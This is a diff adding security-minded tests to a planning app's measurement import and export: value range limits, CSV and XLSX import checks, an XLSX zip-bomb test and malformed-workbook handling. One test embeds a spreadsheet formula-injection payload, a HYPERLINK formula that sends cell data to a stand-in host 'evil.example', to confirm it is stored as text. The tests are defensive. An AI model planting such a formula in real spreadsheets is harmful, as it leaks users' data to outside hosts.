@@ -1,10 +1,14 @@
 import ExcelJS from 'exceljs'
+import JSZip from 'jszip'
 import { describe, expect, it } from 'vitest'
 import { addMember, createPlan, createUser } from '#db/factories/index.ts'
 import * as MeasurementRepository from '#db/repositories/measurements.ts'
 import * as ItemRepository from '#db/repositories/worksheet-items.ts'
 import { args, call, createUserWithSession, makeRequest, sessionCookieFor } from '#tests/utils.ts'
+import { xlsxOf, zipBombXlsx } from '#tests/spreadsheets.ts'
+import { MAX_IMPORT_BYTES } from '../monitoring/import.server.ts'
 import { getDb } from '../utils/db.server.ts'
+import { loader as healthz } from './healthz.ts'
 import { loader as templateLoader } from './plans.$planId.monitoring.template.ts'
 import { action, loader } from './plans.$planId.monitoring.tsx'
 
@@ -48,6 +52,25 @@ describe('recording measurements', () => {
     await post(plan.id, cookie, { intent: 'measurement:add', indicatorId: k1.id, period: '2026-Q2', value: '40' })
     expect((await post(plan.id, cookie, { intent: 'measurement:add', indicatorId: k1.id, period: '2026-q2', value: '42' })).data.result.error.period).toEqual(['monitoring.errors.alreadyRecorded'])
     expect(await MeasurementRepository.findByPlan(db, plan.id)).toHaveLength(1)
+  })
+
+  it('refuses values outside the realistic range, and NaN and infinities', async () => {
+    const { plan, cookie, k1, k2 } = await setup()
+    const k3 = await ItemRepository.insert(db, { planId: plan.id, kind: 'indicator', refPrefix: 'K', data: { name: 'Change', indicatorType: 'outcome', unit: 'other' }, actorId: (await db.selectFrom('plan_members').select('user_id').where('plan_id', '=', plan.id).executeTakeFirstOrThrow()).user_id })
+    const add = (indicatorId: string, value: string, period = '2026-Q2') => post(plan.id, cookie, { intent: 'measurement:add', indicatorId, period, value })
+    for (const value of ['1.7976931348623157e308', '1e308', '-1e13', 'Infinity', '-Infinity', 'NaN']) {
+      const res = await add(k3.id, value)
+      expect(res.status).toBe(400)
+      expect(res.data.result.error.value).toHaveLength(1)
+    }
+    expect((await add(k2.id, '20000000000')).data.result.error.value).toEqual(['monitoring.errors.tooBig|10000000000'])
+    expect((await add(k3.id, '-3')).status).toBe(200)
+    expect((await add(k3.id, '1e12', '2026-Q3')).status).toBe(200)
+    expect((await add(k1.id, '100')).status).toBe(200)
+    const csv = 'indicator,period,value\nK3,2027,1.7976931348623157e308\nK2,2027,2e10\nK1,2027,55\n'
+    const preview = await upload(plan.id, cookie, new File([csv], 'v.csv', { type: 'text/csv' }))
+    expect(preview.data.preview.rows.map((r: { errors: string[] }) => r.errors)).toEqual([['monitoring.errors.outOfRange|1000000000000'], ['monitoring.errors.tooBig|10000000000'], []])
+    expect((await MeasurementRepository.findByPlan(db, plan.id)).map((m) => m.value).sort((a, b) => a - b)).toEqual([-3, 100, 1e12])
   })
 
   it('refuses an indicator of another plan', async () => {
@@ -130,5 +153,52 @@ describe('importing measurements', () => {
     const workbook = new ExcelJS.Workbook()
     await workbook.xlsx.load(await xlsx.arrayBuffer())
     expect(workbook.getWorksheet('indicators')!.getRow(2).getCell(1).value).toBe('K1')
+  })
+
+  it('writes indicator names that look like formulas into the XLSX template as text', async () => {
+    const { plan, lead, cookie } = await setup()
+    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+    await ItemRepository.insert(db, { planId: plan.id, kind: 'indicator', refPrefix: 'K', data: { name: evil, indicatorType: 'output', unit: 'other' }, actorId: lead.id })
+    const xlsx = await templateLoader(args(makeRequest(`/plans/${plan.id}/monitoring/template?format=xlsx`, { cookie }), { planId: plan.id }))
+    const bytes = await xlsx.arrayBuffer()
+    const zip = await JSZip.loadAsync(bytes)
+    const sheets = Object.keys(zip.files).filter((name) => name.startsWith('xl/worksheets/sheet'))
+    expect(sheets.length).toBe(2)
+    for (const name of sheets) expect(await zip.file(name)!.async('string')).not.toContain('<f>')
+    const workbook = new ExcelJS.Workbook()
+    await workbook.xlsx.load(bytes)
+    const cell = workbook.getWorksheet('indicators')!.getRow(4).getCell(2)
+    expect(cell.type).toBe(ExcelJS.ValueType.String)
+    expect(cell.value).toBe(evil)
+    expect(cell.numFmt).toBe('@')
+  })
+
+  it('refuses an XLSX zip bomb with a 400 while /healthz keeps answering', async () => {
+    const { plan, cookie } = await setup()
+    const bomb = await zipBombXlsx(1_000_000)
+    expect(bomb.length).toBeLessThan(MAX_IMPORT_BYTES)
+    const finished: string[] = []
+    const importing = upload(plan.id, cookie, new File([bomb], 'bomb.xlsx')).then((res) => {
+      finished.push('import')
+      return res
+    })
+    const health = await healthz()
+    finished.push('healthz')
+    const res = await importing
+    expect(health.status).toBe(200)
+    expect(finished).toEqual(['healthz', 'import'])
+    expect(res.status).toBe(400)
+    expect(res.data.result.error['']).toEqual(['monitoring.import.tooLargeUnpacked'])
+    expect(await MeasurementRepository.findByPlan(db, plan.id)).toHaveLength(0)
+  })
+
+  it('answers truncated and garbage workbooks with a 400, not a 500', async () => {
+    const { plan, cookie } = await setup()
+    const good = await xlsxOf([['indicator', 'period', 'value'], ['K1', '2026-Q2', 41]])
+    for (const bytes of [good.subarray(0, good.length - 100), Buffer.from('PK\x03\x04garbage'), Buffer.alloc(5000, 0xff)]) {
+      const res = await upload(plan.id, cookie, new File([bytes], 'broken.xlsx'))
+      expect(res.status).toBe(400)
+      expect(res.data.result.error['']).toEqual(['monitoring.import.unreadable'])
+    }
   })
 })
